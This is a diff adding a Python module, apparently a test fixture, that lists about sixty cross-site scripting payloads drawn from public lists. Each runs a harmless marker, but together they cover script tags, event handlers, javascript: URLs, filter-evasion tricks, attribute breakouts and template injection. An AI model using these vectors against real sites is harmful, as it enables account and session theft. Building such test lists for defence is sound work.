@@ -1,0 +1,37 @@
+"""Sixty strings that run as a script wherever a page lets words become markup (after OWASP's and PortSwigger's lists)."""
+
+HIT = "window.hit=1"
+
+PAYLOADS = (
+    f"<script>{HIT}</script>",
+    f"<SCRIPT>{HIT}</SCRIPT>",
+    f"<script >{HIT}</script >",
+    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
+    f"<script/x>{HIT}</script>", f"<script src=data:,{HIT}></script>", f"<script type=module>{HIT}</script>",
+    f"</script><script>{HIT}</script>", f"<!--><script>{HIT}</script>", f"--><script>{HIT}</script>",
+    f"]]><script>{HIT}</script>", f"</title><script>{HIT}</script>", f"</textarea><script>{HIT}</script>",
+    f"</style><script>{HIT}</script>", f"</option></select><script>{HIT}</script>", f"</q></mark></p><script>{HIT}</script>",
+    f"<img src=x onerror={HIT}>", f"<img src=x onerror=\"{HIT}\">", f"<img/src/onerror={HIT}>", f"<IMG SRC=x OnErRoR={HIT}>",
+    f"<image src=x onerror={HIT}>", f"<img src='x'onerror='{HIT}'>", f"<img srcset=x onerror={HIT}>",
+    f"<svg onload={HIT}>", f"<svg/onload={HIT}>", f"<svg><script>{HIT}</script></svg>",
+    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><set onbegin={HIT} attributename=x>",
+    f"<svg><a xlink:href=javascript:{HIT}><text y=9>x</text></a></svg>", f"<svg><foreignObject><body onload={HIT}>",
+    f"<math><mtext><style><img src=x onerror={HIT}></style>", f"<math href=javascript:{HIT}>x</math>",
+    f"<body onload={HIT}>",
+    f"<iframe src=javascript:{HIT}></iframe>",
+    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
+    f"<object data=javascript:{HIT}></object>", f"<embed src=javascript:{HIT}>", f"<video><source onerror={HIT}></video>",
+    f"<audio src=x onerror={HIT}></audio>", f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}>",
+    f"<textarea autofocus onfocus={HIT}>", f"<details open ontoggle={HIT}>", f"<marquee onstart={HIT}>x</marquee>",
+    f"<a href=javascript:{HIT} id=clickme>x</a>", f"<form action=javascript:{HIT}><button>x</button></form>",
+    f"<button formaction=javascript:{HIT}>x</button>", f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
+    f"<base href=javascript:{HIT}//>",
+    f"<link rel=stylesheet href=javascript:{HIT}>",
+    f"<style>@import 'javascript:{HIT}';</style>",
+    f"\" autofocus onfocus=\"{HIT}",
+    f"' autofocus onfocus='{HIT}",
+    f"\"><script>{HIT}</script>",
+    f"'><img src=x onerror={HIT}>",
+    f"` onmouseover={HIT} `", f"{{{{constructor.constructor('{HIT}')()}}}}", f"${{{HIT}}}",
+    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e&lt;script&gt;", f"\u202e<script>{HIT}</script>\ufeff\u2028",
+)  # fmt: skip
